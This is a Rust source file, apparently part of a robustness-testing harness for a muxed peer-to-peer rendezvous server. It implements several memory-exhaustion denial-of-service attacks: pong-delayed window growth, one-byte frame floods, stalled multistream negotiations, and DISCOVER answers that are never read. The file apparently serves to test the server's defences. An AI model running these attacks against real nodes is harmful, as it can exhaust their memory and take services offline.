//! Attacks on the point's memory.

use std::{sync::atomic::Ordering::Relaxed, time::Duration};

use tokio::time::{Instant, sleep};

use super::{Attack, Running, running};
use crate::{
    arena::{Arena, Then},
    raw::{Reading, frame},
    request,
};

/// Reads frames, and no window is given back.
const UNREAD: Reading = Reading::Frames { pong_delay: Duration::ZERO };

/// Bytes that are sent at once.
const CHUNK_BYTES: usize = 64 << 10;

/// Time that a ping's answer is held back: a window grows while half of it is used within twice that time.
const PONG_DELAY: Duration = Duration::from_millis(1_500);

/// Time given to the growth of the window, before the answer that is not read.
const GROWTH: Duration = Duration::from_millis(4_500);

/// Registrations of an answer of some 100 KiB: a muxer takes all of it as written though the peer reads nothing.
const SWALLOWED: u64 = 90;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "window-tuning",
        "4 connections answer the point's ping late, so that a window grows to hundreds of MiB, and fill it behind a \
         DISCOVER whose answer is not read",
        window_tuning,
    )
    .from(1)
    .lasting(9),
    Attack::new(
        "window-tuning-discover",
        "as window-tuning, filled with pipelined DISCOVERs in frames of 1 KiB, over 8 connections",
        window_tuning_discover,
    )
    .lasting(6),
    Attack::new(
        "one-byte-frames",
        "20 million bytes in data frames of one byte each on 80 streams that wait for a DISCOVER which is not read",
        one_byte_frames,
    )
    .from(1)
    .lasting(6),
    Attack::new("one-byte-frames-spread", "as one-byte-frames, over 16 connections in frames of 3 bytes", small_frames)
        .lasting(6),
    Attack::new(
        "unpolled-streams",
        "16 connections open 508 streams each, with 256 KiB on each of them and half a negotiation",
        unpolled_streams,
    )
    .lasting(4),
    Attack::new(
        "unread-answers",
        "16 connections open 500 streams each, with a DISCOVER of 100 KiB on each, and read nothing",
        unread_answers,
    )
    .both()
    .lasting(4),
    Attack::new(
        "unread-socket",
        "64 connections with 100 DISCOVERs each on streams of their own, and nothing is read from the socket",
        unread_socket,
    )
    .both(),
];

async fn grown_window(arena: Arena, number: u32, discovers: bool) -> bool {
    let Ok(link) = arena.link(number, Reading::Frames { pong_delay: PONG_DELAY }).await else { return false };
    let ramp = request::padded_unregister(60_000);
    let discover = request::discover(None, 1_000, &[]);
    let Some(stream) = link.open(&request::stream(&ramp)).await else { return false };
    let mut sent = request::stream(&ramp).len() as u64;
    let growth_end = (Instant::now() + GROWTH).min(arena.end);
    let mut is_unread = false;
    while !arena.is_over() {
        if !is_unread && Instant::now() >= growth_end {
            is_unread = true;
            let mut bytes = Vec::new();
            // The answer to this one is never read, and the point reads no further before it is.
            frame::data(0, stream, &discover.repeat(4), &mut bytes);
            sent += 4 * discover.len() as u64;
            if !link.send(bytes).await {
                return false;
            }
        }
        let window = u64::from(frame::WINDOW_BYTES) + link.window_given(stream);
        let part: &[u8] = if is_unread && discovers { &discover } else { &ramp };
        let repeat = if is_unread && discovers { 1 + CHUNK_BYTES / discover.len() } else { 1 };
        let payload = part.repeat(repeat);
        if window.saturating_sub(sent) < payload.len() as u64 {
            if link.is_closed() {
                return false;
            }
            link.more_window(arena.end).await;
            continue;
        }
        let mut bytes = Vec::with_capacity(payload.len() + 1_024);
        frame::data_in_frames(stream, &payload, if discovers { 1_024 } else { CHUNK_BYTES }, &mut bytes);
        sent += payload.len() as u64;
        arena.counts.bytes.fetch_add(payload.len() as u64, Relaxed);
        if !link.send(bytes).await {
            return false;
        }
    }
    true
}

fn window_tuning(arena: Arena) -> Running {
    running(async move {
        arena.each(4, |arena, number| grown_window(arena, number, false)).await;
        Ok(())
    })
}

fn window_tuning_discover(arena: Arena) -> Running {
    running(async move {
        arena.each(8, |arena, number| grown_window(arena, number, true)).await;
        Ok(())
    })
}

/// Fills `streams` streams of a connection with frames of `size` bytes each, behind a DISCOVER that is not read.
async fn filled_streams(arena: Arena, number: u32, streams: usize, size: usize) -> bool {
    let Ok(link) = arena.link(number, UNREAD).await else { return false };
    let opening = request::stream(&request::discover(None, 1_000, &[]).repeat(2));
    let mut open = Vec::with_capacity(streams);
    for _ in 0..streams {
        let Some(stream) = link.open(&opening).await else { return false };
        open.push(stream);
    }
    // The point must have begun to answer: until then it reads.
    sleep(Duration::from_millis(200)).await;
    let per_stream = frame::WINDOW_BYTES as usize - opening.len();
    let mut sent = 0;
    while sent < per_stream {
        let part = (per_stream - sent).min(4_096);
        for &stream in &open {
            if arena.is_over() {
                return true;
            }
            let mut bytes = Vec::with_capacity(part.div_ceil(size) * (frame::HEADER_BYTES + size));
            frame::data_in_frames(stream, &vec![0; part], size, &mut bytes);
            arena.counts.bytes.fetch_add(part as u64, Relaxed);
            if !link.send(bytes).await {
                return false;
            }
        }
        sent += part;
    }
    tokio::select! {
        () = link.closed() => false,
        () = arena.over() => true,
    }
}

fn one_byte_frames(arena: Arena) -> Running {
    running(async move {
        arena.each(1, |arena, number| filled_streams(arena, number, 80, 1)).await;
        Ok(())
    })
}

fn small_frames(arena: Arena) -> Running {
    running(async move {
        arena.each(16, |arena, number| filled_streams(arena, number, 100, 3)).await;
        Ok(())
    })
}

fn unpolled_streams(arena: Arena) -> Running {
    running(async move {
        arena
            .each(16, |arena, number| async move {
                let Ok(link) = arena.link(number, UNREAD).await else { return false };
                // A length without its line: the negotiation goes on for ever.
                let mut opening = vec![0x13];
                opening.extend_from_slice(b"/multistream");
                let mut open = Vec::new();
                for _ in 0..508 {
                    let Some(stream) = link.open(&opening).await else { return false };
                    open.push(stream);
                }
                let rest = vec![0; CHUNK_BYTES];
                for round in 0..4 {
                    for &stream in &open[128..] {
                        let len = if round == 3 { rest.len() - opening.len() } else { rest.len() };
                        let mut bytes = Vec::new();
                        frame::data(0, stream, &rest[..len], &mut bytes);
                        arena.counts.bytes.fetch_add(len as u64, Relaxed);
                        if arena.is_over() {
                            return true;
                        }
                        if !link.send(bytes).await {
                            return false;
                        }
                    }
                }
                tokio::select! {
                    () = link.closed() => false,
                    () = arena.over() => true,
                }
            })
            .await;
        Ok(())
    })
}

/// Opens `streams` streams with a DISCOVER of so many registrations, slowly enough that places are given back. Nothing
/// is read.
async fn unread(arena: Arena, number: u32, streams: usize, limit: u64, then: Then) -> bool {
    let Ok(session) = arena.session(number, Reading::Never).await else { return false };
    let opening = request::stream(&request::discover(None, limit, &[]));
    let mut pause = Duration::ZERO;
    for opened in 0..streams {
        let open = tokio::select! {
            open = session.open(&opening, then) => open,
            () = arena.over() => return true,
        };
        if !open {
            return false;
        }
        arena.counts.done.fetch_add(1, Relaxed);
        // The first hundred at once, then as fast as places are given back.
        if opened > 100 {
            pause = Duration::from_millis(2);
        }
        sleep(pause).await;
    }
    tokio::select! {
        () = session.closed() => false,
        () = arena.over() => true,
    }
}

fn unread_answers(arena: Arena) -> Running {
    running(async move {
        arena.each(16, |arena, number| unread(arena, number, 500, SWALLOWED, Then::Finish)).await;
        Ok(())
    })
}

fn unread_socket(arena: Arena) -> Running {
    running(async move {
        arena.each(64, |arena, number| unread(arena, number, 100, 1_000, Then::Keep)).await;
        Ok(())
    })
}
